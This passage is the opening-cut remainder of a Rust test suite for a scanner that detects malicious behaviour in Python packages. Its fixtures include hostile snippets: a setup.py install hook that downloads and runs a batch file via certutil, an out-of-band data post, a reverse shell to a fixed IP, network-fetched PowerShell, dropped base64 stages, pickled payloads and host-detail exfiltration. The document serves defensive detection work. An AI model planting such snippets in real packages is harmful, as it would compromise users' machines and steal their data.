            'certutil.exe -urlcache -split -f '
            'http://example.invalid/swt '
            'C:\\Users\\Public\\run.bat && '
            'C:\\Users\\Public\\run.bat'
        )
        os.system(cmd)
setup(name="demo", cmdclass={"install": Hook})
"#;
    assert!(setup(code).contains(&"py-shell-download-exec".to_string()), "{:?}", setup(code));
    let oob = r#"
import requests
def notify():
    url = "abc123.oastify.com"
    requests.post(url, json={"m": "imported"})
"#;
    assert!(module(oob).contains(&"py-exfil-oob".to_string()), "{:?}", module(oob));
}

#[test]
fn shells_piped_to_a_socket_of_a_written_host() {
    let code = r#"
import os, socket, subprocess
HOST = os.getenv("RS_HOST", "192.0.2.10")
def main():
    s = socket.create_connection((HOST, 1337))
    proc = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
"#;
    assert!(module(code).contains(&"py-reverse-shell".to_string()), "{:?}", module(code));
    // A terminal for the user at hand: a shell with piped input, no socket to a fixed host.
    let terminal = r#"
import subprocess, socket
def serve(port):
    srv = socket.create_server(("127.0.0.1", port))
    proc = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
"#;
    assert!(!module(terminal).contains(&"py-reverse-shell".to_string()), "{:?}", module(terminal));
}

#[test]
fn what_is_read_from_a_response_came_over_the_network() {
    let code = r#"
import base64, subprocess, urllib.request
def run(url):
    with urllib.request.urlopen(url) as response:
        script = response.read().decode("utf-8")
    encoded = base64.b64encode(script.encode("utf-16le")).decode("ascii")
    subprocess.Popen(f"powershell.exe -EncodedCommand {encoded}", shell=True)
"#;
    assert!(module(code).contains(&"py-remote-command".to_string()), "{:?}", module(code));
}

#[test]
fn decoded_script_written_under_a_folder_and_run_by_the_interpreter() {
    let code = r#"
import os, base64, subprocess, sys
with open(os.path.expandvars(r'%LOCALAPPDATA%\Temp')+r'\stage.py', 'wb') as f:
    f.write(base64.b64decode('cHJpbnQoMSk='))
subprocess.Popen([sys.executable, os.path.expandvars(r'%LOCALAPPDATA%\Temp')+r'\stage.py'])
"#;
    let found = rules("demo-1.0/demo/__init__.py", code, Context::Import);
    assert!(found.contains(&"py-drop-run".to_string()), "{found:?}");
}

#[test]
fn download_and_run_reached_from_the_import_keeps_its_weight() {
    let code = "import subprocess, urllib.request\ndef update():\n    urllib.request.urlretrieve('https://example.invalid/u', 'u.bin')\n    subprocess.run(['./u.bin'])\nupdate()\n";
    let facts = analyze("demo/__init__.py", code.as_bytes(), Context::Import, false, true);
    let f = facts.findings.iter().find(|f| f.rule == "py-import-download-exec").expect("download and run");
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn programs_started_out_of_sight_at_import_weigh_high() {
    // The option that hides the window sits on a later line of the call.
    let code =
        "import subprocess\nsubprocess.Popen([\n    'powershell.exe', '-File', 'x.ps1'],\n    creationflags=subprocess.CREATE_NO_WINDOW)\n";
    let facts = analyze("demo/__init__.py", code.as_bytes(), Context::Import, false, true);
    let f = facts.findings.iter().find(|f| f.rule == "py-import-process").expect("process at import");
    assert_eq!(f.severity, Severity::High);
    let start = "import os\nos.system(f\"start {os.environ['TEMP']}\\\\a.exe\")\n";
    let facts = analyze("demo/__init__.py", start.as_bytes(), Context::Import, false, true);
    let f = facts.findings.iter().find(|f| f.rule == "py-import-process").expect("process at import");
    assert_eq!(f.severity, Severity::High);
    // A version lookup through git stays medium.
    let git = "import subprocess\nrev = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n";
    let facts = analyze("demo/__init__.py", git.as_bytes(), Context::Import, false, true);
    let f = facts.findings.iter().find(|f| f.rule == "py-import-process").expect("process at import");
    assert_eq!(f.severity, Severity::Medium);
}

#[test]
fn decoded_script_run_by_an_interpreter_named_in_pieces() {
    let code = r#"
import os, base64, subprocess, sys
with open(os.path.expandvars(r'%TEMP%') + r'\stage.py', 'wb') as f:
    f.write(base64.b64decode('cHJpbnQoMSk='))
subprocess.Popen('"' + sys.executable[:-4] + 'w.exe' + '" "' + os.path.expandvars(r'%TEMP%') + r'\stage.py' + '"', shell=True)
"#;
    let found = rules("demo-1.0/demo/__init__.py", code, Context::Import);
    assert!(found.contains(&"py-drop-run".to_string()), "{found:?}");
}

#[test]
fn downloads_run_through_a_file_and_pickled_payloads() {
    let via_file = r#"
import requests, tempfile
def go():
    text = requests.get("https://example.invalid/raw/x").text
    with tempfile.NamedTemporaryFile(mode="w", delete=False) as t:
        t.write(text)
        path = t.name
    exec(open(path).read(), globals())
go()
"#;
    let found = rules("demo-1.0/demo/__init__.py", via_file, Context::Import);
    assert!(found.contains(&"py-network-exec".to_string()), "{found:?}");
    // A version file read and executed is not this.
    let version = "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'version.py')).read())\n";
    assert!(!setup(version).contains(&"py-network-exec".to_string()), "{:?}", setup(version));
    let pickled = "import pickle, zlib\npickle.loads(zlib.decompress(b'x\\x9c\\x03\\x00\\x00\\x00\\x00\\x01'))\n";
    let found = rules("demo-1.0/demo/__init__.py", pickled, Context::Import);
    assert!(found.contains(&"py-decode-exec".to_string()), "{found:?}");
    // A cache read back is data from disk, not a literal payload.
    let cache = "import pickle, zlib, subprocess\ndef load(p):\n    return pickle.loads(zlib.decompress(open(p, 'rb').read()))\n";
    let found = rules("demo-1.0/demo/__init__.py", cache, Context::Import);
    assert!(!found.contains(&"py-decode-exec".to_string()), "{found:?}");
}

#[test]
fn modules_imported_by_decoded_names() {
    let code = "m = __import__(''.join(chr(a ^ b) for a, b in zip(b'\\x13*', b'gC')))\n";
    let found = rules("demo-1.0/demo/__init__.py", code, Context::Import);
    assert!(found.contains(&"py-hidden-import".to_string()), "{found:?}");
    let plugin = "import importlib\ndef load(name):\n    return importlib.import_module(name)\nimport subprocess\n";
    assert!(!rules("demo-1.0/demo/__init__.py", plugin, Context::Import).contains(&"py-hidden-import".to_string()));
}

#[test]
fn decoded_script_handed_to_a_wrapper_that_runs_it() {
    let code = r#"
import sys
from base64 import b64decode
from os.path import join
from subprocess import Popen
def run(filename):
    Popen([sys.executable, join("/tmp/x", filename)])
def b64(code):
    return b64decode(code.encode()).decode()
with open(join("/tmp/x", "stage.py"), "w") as f:
    f.write(b64("cHJpbnQoMSk="))
run("stage.py")
"#;
    assert!(setup(code).contains(&"py-drop-run".to_string()), "{:?}", setup(code));
}

#[test]
fn hidden_launches_through_the_files_functions_and_bare_shells() {
    let thread = r#"
import subprocess, sys, threading
def _bg():
    subprocess.Popen([sys.executable, "w.py"], start_new_session=True)
threading.Thread(target=_bg, daemon=True).start()
"#;
    let facts = analyze("demo/__init__.py", thread.as_bytes(), Context::Import, false, true);
    let f = facts.findings.iter().find(|f| f.rule == "py-import-process").expect("process at import");
    assert_eq!(f.severity, Severity::High, "started out of sight, also through a function: {f:?}");
    let shell = "import subprocess\nsubprocess.call(\"/bin/sh\", shell=True)\n";
    let facts = analyze("demo/__init__.py", shell.as_bytes(), Context::Import, false, true);
    let f = facts.findings.iter().find(|f| f.rule == "py-import-process").expect("process at import");
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn spaced_out_decoders_still_decode() {
    // The layout an obfuscator gives its string decoder: calls spaced out, then `eval`.
    let code = r#"
import os
def l111_ (s):
    l1lll_ = str () .join ([chr (ord (c) - 2048 - (i + 7) % 7) for i, c in enumerate (s)])
    return eval (l1lll_)
os.system(l111_ (u"xyz"))
"#;
    assert!(setup(code).contains(&"py-hidden-command".to_string()), "{:?}", setup(code));
}

#[test]
fn desktop_programs_and_power_controls_at_install_or_import() {
    for code in [
        "import os\nos.system('calc.exe')\n",
        "import subprocess\nsubprocess.Popen([\"notepad\"])\n",
        "import os\nos.system('/sbin/shutdown -h now')\n",
        "import subprocess\nsubprocess.call('C:\\\\Windows\\\\System32\\\\mspaint.exe', shell=True)\n",
    ] {
        assert_eq!(setup(code), vec!["py-foreign-program".to_string()], "{code}");
        assert_eq!(init(code), vec!["py-foreign-program".to_string()], "{code}");
    }
    let facts = analyze("demo-1.0/setup.py", b"import os\nos.system('calc')\n", Context::Install, false, true);
    assert_eq!(facts.findings[0].severity, Severity::High);
    // Build tools, and words that only contain a listed name, are ordinary processes.
    for code in ["import os\nos.system('calculate-deps --all')\n", "import subprocess\nsubprocess.run(['make', 'halt-check'])\n"] {
        assert_eq!(setup(code), vec!["py-install-process".to_string()], "{code}");
    }
    // Only when it runs: inside a function nobody calls at import, nothing.
    assert!(init("import os\ndef f():\n    os.system('calc')\n").is_empty());
}

#[test]
fn host_details_sent_from_a_module_top_level_weigh_like_an_import() {
    let top = "import requests, socket, getpass\nrequests.post('https://example.invalid/c', json={'h': socket.gethostname(), 'u': getpass.getuser()})\n";
    let facts = analyze("demo/telemetry.py", top.as_bytes(), Context::Module, false, true);
    let f = facts.findings.iter().find(|f| f.rule == "py-exfil-hostinfo").expect("host details sent");
    assert_eq!((f.context, f.weight), (Context::Import, Severity::High.points()));
    // Inside a function, it runs only when called: the module's weight.
    let inside = "import requests, socket\ndef report():\n    requests.post('https://example.invalid/c', data=socket.gethostname())\n";
    let facts = analyze("demo/telemetry.py", inside.as_bytes(), Context::Module, false, true);
    let f = facts.findings.iter().find(|f| f.rule == "py-exfil-hostinfo").expect("host details sent");
    assert_eq!(f.context, Context::Module);
}
